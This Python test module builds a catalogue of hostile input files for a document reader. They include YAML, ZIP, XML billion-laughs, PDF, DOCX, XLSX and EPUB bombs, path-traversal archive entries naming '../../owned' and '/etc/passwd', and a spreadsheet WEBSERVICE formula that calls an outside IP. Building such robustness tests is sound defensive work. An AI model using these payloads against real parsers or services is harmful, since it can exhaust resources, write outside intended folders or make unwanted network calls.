"""Small files that would become large, or take for ever: archives, entities, pages that repeat."""

import json
import zlib
from collections.abc import Callable

from support.wordfile import paragraph, word_file

from attacks.cases import FACT, PLACE, Attack, Data, Outcome, read_by
from attacks.cases.archives import book, odt, pdf_of, sheet, slides_with, stream, zip_bomb, zipped

__all__ = ["ATTACKS"]

LAUGHS = (
    "<!DOCTYPE x ["
    + '<!ENTITY a "ha">'
    + "".join(f'<!ENTITY {chr(98 + n)} "{f"&{chr(97 + n)};" * 10}">' for n in range(9))
    + "]>"
)
QUADRATIC = f'<!DOCTYPE x [<!ENTITY a "{"ha" * 50_000}">]>'
DECLARED = "<?xml version='1.0'?>"


def _bomb(mechanism: str, name: str, suffix: str, data: Data, outcome: Outcome = "unread") -> Attack:
    return Attack(mechanism, name, data, suffix, outcome=outcome)


def _word(body: str, before: str = "") -> Callable[[str], bytes]:
    return read_by(lambda text: word_file(paragraph(text) + body) if not before else _prefixed(text, before, body))


def _prefixed(text: str, prolog: str, body: str) -> bytes:
    """A Word file whose document has a prolog, such as a DTD."""
    import io
    import zipfile

    with zipfile.ZipFile(io.BytesIO(word_file(paragraph(text) + body))) as source:
        parts = {name: source.read(name) for name in source.namelist()}
    old = parts["word/document.xml"]
    head, _, rest = old.partition(b"?>")
    parts["word/document.xml"] = head + b"?>" + prolog.encode() + rest
    return zipped(dict(parts))


def _yaml() -> str:
    lines = ["a0: &a0 [x, x, x, x, x, x, x, x, x]"]
    lines += [f"a{n}: &a{n} [{', '.join([f'*a{n - 1}'] * 9)}]" for n in range(1, 12)]
    return "\n".join(lines)


_YAML = (
    _bomb("YAML bombs", "aliases", ".md", f"---\n{_yaml()}\ntitle: *a11\n---\n\n{FACT}\n", "read"),
    _bomb("YAML bombs", "itself", ".md", f"---\nauthor: &a [*a, *a]\n---\n\n{FACT}\n", "read"),
    _bomb("YAML bombs", "deep lists", ".md", f"---\ntitle: {'[' * 1_500}{']' * 1_500}\n---\n\n{FACT}\n", "read"),
    _bomb(
        "YAML bombs",
        "deep mappings",
        ".md",
        "---\n" + "".join(f"{' ' * n}a:\n" for n in range(300)) + f"---\n\n{FACT}\n",
        "read",
    ),
    _bomb("YAML bombs", "three thousand keys", ".md", "---\n" + "a: 1\n" * 3_000 + f"---\n\n{FACT}\n", "read"),
)

_ZIP = (
    _bomb("ZIP bombs", "a part of 300 MB", ".xlsx", zip_bomb("xl/workbook.xml", 300)),
    _bomb("ZIP bombs", "a Word file of 300 MB", ".docx", zip_bomb("word/document.xml", 300)),
    _bomb("ZIP bombs", "thirty thousand parts", ".epub", lambda _: zipped({f"{n}.xhtml": "x" for n in range(30_000)})),
    _bomb(
        "ZIP bombs",
        "an archive in an archive",
        ".odt",
        zipped({"content.xml": zipped({"content.xml": bytes(10_000_000)})}),
    ),
    _bomb(
        "ZIP bombs",
        "a size that is not so",
        ".epub",
        zipped({"META-INF/container.xml": bytes(3_000_000)}).replace(
            (3_000_000).to_bytes(4, "little"), (30).to_bytes(4, "little")
        ),
    ),
    _bomb(
        "ZIP bombs",
        "names that lead out",
        ".odt",
        read_by(lambda text: zipped({"../../owned": text, "/owned": text, "content.xml": "<x/>"})),
    ),
)

_XML = tuple(
    _bomb("XML bombs", f"{name} in {suffix}", suffix, data, outcome)
    for name, prolog in (("a billion laughs", LAUGHS), ("one long entity", QUADRATIC))
    for suffix, data, outcome in (
        (".docx", _word(paragraph("&j;" if prolog is LAUGHS else "&a;" * 5_000), prolog), "either"),
        (".xlsx", read_by(lambda text, p=prolog: sheet(f"{text}&a;&j;", prolog=p)), "unread"),
        (
            ".odt",
            read_by(lambda text, p=prolog: odt(text, p, f"<text:p>{'&j;' * 100}{'&a;' * 5_000}</text:p>")),
            "either",
        ),
        (".epub", read_by(lambda text, p=prolog: book(text, p, f"<p>{'&j;' * 100}{'&a;' * 5_000}</p>")), "either"),
        (".html", f"{prolog}<p>{FACT}</p><p>{'&j;' * 100}{'&a;' * 5_000}</p>", "read"),
        (".pptx", lambda _, p=prolog: slides_with(f"{p}<a>{'&j;' * 100}</a>"), "either"),
    )
)


def _pages(*pages: bytes, count: int = 1) -> tuple[bytes, ...]:
    return (b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Count %d/Kids[%s]>>" % (count, b" ".join(pages)))


_PAGE = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 600 800]/Contents 4 0 R/Resources<</XObject<</X 4 0 R>>/Font<</F 5 0 R>>>>>>"
_FONT = b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>"
_FORM = b"/Type/XObject/Subtype/Form/BBox[0 0 600 800]/Resources<</XObject<</X 4 0 R>>/Font<</F 5 0 R>>>>"

_PDF = (
    _bomb(
        "PDF bombs",
        "a stream of 100 MB",
        ".pdf",
        lambda _: pdf_of(*_pages(b"3 0 R"), _PAGE, stream(b"", blanks=100), _FONT),
        "either",
    ),
    _bomb(
        "PDF bombs",
        "a stream deflated three times",
        ".pdf",
        lambda _: pdf_of(*_pages(b"3 0 R"), _PAGE, stream(b"", times=3, blanks=100), _FONT),
        "either",
    ),
    _bomb(
        "PDF bombs",
        "a form that draws itself",
        ".pdf",
        pdf_of(*_pages(b"3 0 R"), _PAGE, stream(b"/X Do /X Do " * 100, _FORM), _FONT),
        "either",
    ),
    _bomb(
        "PDF bombs",
        "a page that is its own parent",
        ".pdf",
        pdf_of(*_pages(b"2 0 R", b"2 0 R", count=10**9), _PAGE, stream(b""), _FONT),
    ),
    _bomb(
        "PDF bombs",
        "a page two thousand times",
        ".pdf",
        pdf_of(
            *_pages(*[b"3 0 R"] * 2_000, count=2_000),
            _PAGE,
            stream(b"BT /F 9 Tf (The same words again.) Tj ET " * 20),
            _FONT,
        ),
        "either",
    ),
    _bomb(
        "PDF bombs",
        "a deep array",
        ".pdf",
        pdf_of(*_pages(b"3 0 R"), b"[" * 200_000 + b"]" * 200_000, stream(b""), _FONT),
        "either",
    ),
    _bomb(
        "PDF bombs",
        "a table of references that leads to itself",
        ".pdf",
        pdf_of(*_pages(b"3 0 R"), _PAGE, stream(b""), _FONT).replace(b"trailer<<", b"trailer<</Prev 0/XRefStm 9"),
        "either",
    ),
    _bomb(
        "PDF bombs",
        "a page of a square kilometre",
        ".pdf",
        pdf_of(
            *_pages(b"3 0 R"), _PAGE.replace(b"600 800", b"9999999 9999999"), stream(b"BT /F 9 Tf (Far.) Tj ET"), _FONT
        ),
        "either",
    ),
)


_WORD = (
    _bomb(
        "DOCX bombs",
        "tables in tables",
        ".docx",
        _word("<w:tbl><w:tr><w:tc>" * 150 + "<w:p/>" + "</w:tc></w:tr></w:tbl>" * 150),
        "either",
    ),
    _bomb("DOCX bombs", "a hundred thousand empty paragraphs", ".docx", _word("<w:p/>" * 100_000), "either"),
    _bomb(
        "DOCX bombs",
        "a cell across a million columns",
        ".docx",
        _word('<w:tbl><w:tr><w:tc><w:tcPr><w:gridSpan w:val="1000000"/></w:tcPr><w:p/></w:tc></w:tr></w:tbl>' * 50),
        "either",
    ),
    _bomb("DOCX bombs", "a sentence a million times", ".docx", _word(paragraph("A man ran. " * 250_000))),
    _bomb(
        "DOCX bombs", "deep runs", ".docx", _word("<w:p>" + "<w:ins>" * 5_000 + "</w:ins>" * 5_000 + "</w:p>"), "either"
    ),
)

_SHEET = (
    _bomb(
        "XLSX bombs",
        "all cells merged",
        ".xlsx",
        read_by(lambda t: sheet(t, after='<mergeCells><mergeCell ref="A1:XFD1048576"/></mergeCells>')),
    ),
    _bomb("XLSX bombs", "a million and a half rows", ".xlsx", read_by(lambda t: sheet(t, rows="<row/>" * 1_600_000))),
    _bomb(
        "XLSX bombs",
        "the last cell",
        ".xlsx",
        read_by(lambda t: sheet(t, rows='<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>')),
        "read",
    ),
    _bomb(
        "XLSX bombs",
        "a number of a million digits",
        ".xlsx",
        read_by(lambda t: sheet(t, rows=f'<row r="2"><c r="A2"><v>{"9" * 1_000_000}</v></c></row>')),
        "either",
    ),
    _bomb(
        "XLSX bombs",
        "a shared string that is not there",
        ".xlsx",
        read_by(lambda t: sheet(t, rows='<row r="2"><c r="A2" t="s"><v>99999999</v></c></row>')),
        "either",
    ),
    _bomb(
        "XLSX bombs",
        "a formula",
        ".xlsx",
        read_by(
            lambda t: sheet(t, rows='<row r="2"><c r="A2"><f>WEBSERVICE("http://203.0.113.1/")</f><v>1</v></c></row>')
        ),
        "read",
    ),
)

_BOOK = (
    _bomb("EPUB bombs", "a chapter 100,000 times", ".epub", read_by(lambda t: book(t, spine=100_000)), "read"),
    _bomb("EPUB bombs", "a chapter of 6 MB", ".epub", read_by(lambda t: book(t, body="<p>A man ran.</p>" * 400_000))),
    _bomb("EPUB bombs", "no chapter", ".epub", read_by(lambda t: book(t, href="../../../etc/passwd"))),
)

_OTHERS = (
    _bomb(
        "bombs of other formats",
        "messages in messages",
        ".eml",
        "".join(f"Content-Type: multipart/mixed; boundary=b{n}\n\n--b{n}\n" for n in range(3_000)) + FACT,
    ),
    _bomb(
        "bombs of other formats",
        "two thousand messages",
        ".mbox",
        "From a@b Thu Jan  1 00:00:00 1970\nSubject: x\n\nA man ran.\n\n" * 2_000,
        "either",
    ),
    _bomb(
        "bombs of other formats",
        "a number without end",
        ".json",
        f'{{"text": "{FACT}", "n": {"9" * 100_000}}}',
        "either",
    ),
    _bomb("bombs of other formats", "deep lists", ".json", "[" * 100_000 + "]" * 100_000),
    _bomb("bombs of other formats", "a deep notebook", ".ipynb", '{"cells": ' + "[" * 50_000),
    _bomb("bombs of other formats", "columns without end", ".csv", "a," * 1_100_000),
    _bomb(
        "bombs of other formats",
        "repeated cells",
        ".ods",
        odt(
            FACT,
            body='<table:table><table:table-row table:number-rows-repeated="1000000"><table:table-cell table:number-columns-repeated="1000000"><text:p>x</text:p></table:table-cell></table:table-row></table:table>',
        ),
        "either",
    ),
    _bomb(
        "bombs of other formats",
        "spaces by number",
        ".odt",
        read_by(lambda t: odt(t, body='<text:p>a<text:s text:c="2000000000"/>b</text:p>')),
        "either",
    ),
    _bomb(
        "bombs of other formats",
        "substitutions",
        ".rst",
        FACT + "\n\n|0|\n\n" + "".join(f".. |{n}| replace:: |{n + 1}| |{n + 1}|\n" for n in range(40)),
    ),
    _bomb(
        "bombs of other formats",
        "cues without end",
        ".srt",
        "".join(f"{n}\n00:00:00,000 --> 99:59:59,999\nA man ran.\n\n" for n in range(20_000)),
        "either",
    ),
    _bomb(
        "bombs of other formats",
        "a notebook of one huge output",
        ".ipynb",
        lambda p: json.dumps(
            {
                "cells": [
                    {"cell_type": "markdown", "source": [FACT.replace(PLACE, p)]},
                    {
                        "cell_type": "code",
                        "source": "x",
                        "outputs": [{"output_type": "stream", "text": ["A man ran. " * 200_000]}],
                    },
                ],
                "nbformat": 4,
            }
        ),
        "either",
    ),
    _bomb("bombs of other formats", "compressed text with another name", ".txt", zlib.compress(bytes(10_000_000))),
)

ATTACKS = (*_YAML, *_ZIP, *_XML, *_PDF, *_WORD, *_SHEET, *_BOOK, *_OTHERS)
